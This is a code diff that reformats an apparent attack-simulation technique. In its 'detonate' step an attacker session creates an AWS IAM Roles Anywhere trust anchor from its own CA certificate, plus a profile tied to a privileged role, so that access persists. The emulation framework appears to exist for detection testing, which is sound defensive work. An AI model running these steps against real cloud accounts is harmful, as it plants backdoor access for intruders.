@@ -34,16 +34,30 @@ class RolesAnywhereCreateTrustAnchor(Technique):
     )
 
     def warmup(self, ctx: Ctx) -> Json:
-        arn = client("iam", session=ctx.admin()).create_role(RoleName=ROLE, AssumeRolePolicyDocument=TRUST)["Role"]["Arn"]
+        iam = client("iam", session=ctx.admin())
+        arn = iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=TRUST)["Role"]["Arn"]
         return {"role": ROLE, "role_arn": arn}
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         sess = ctx.attacker()
-        source = {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": _ca_certificate()}}
-        anchor = {"name": "corp-pki-root", "source": source, "enabled": True}
-        ctx.call(sess, "rolesanywhere", "CreateTrustAnchor", anchor, response={"trustAnchor": _made(ctx, "trust-anchor", anchor)})
-        profile = {"name": "batch-workloads", "roleArns": [state["role_arn"]], "durationSeconds": 3600, "enabled": True}
-        ctx.call(sess, "rolesanywhere", "CreateProfile", profile, response={"profile": _made(ctx, "profile", profile)})
+        pem = _ca_certificate()
+        anchor = {"name": "corp-pki-root", "enabled": True,
+                  "source": {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": pem}}}  # fmt: skip
+        made = {"trustAnchor": _made(ctx, "trust-anchor", anchor)}
+        ctx.call(sess, "rolesanywhere", "CreateTrustAnchor", anchor, response=made)
+        profile = {
+            "name": "batch-workloads",
+            "roleArns": [state["role_arn"]],
+            "durationSeconds": 3600,
+            "enabled": True,
+        }
+        ctx.call(
+            sess,
+            "rolesanywhere",
+            "CreateProfile",
+            profile,
+            response={"profile": _made(ctx, "profile", profile)},
+        )
 
     def revert(self, ctx: Ctx, state: Json) -> None:
         delete_role(ctx, state["role"])
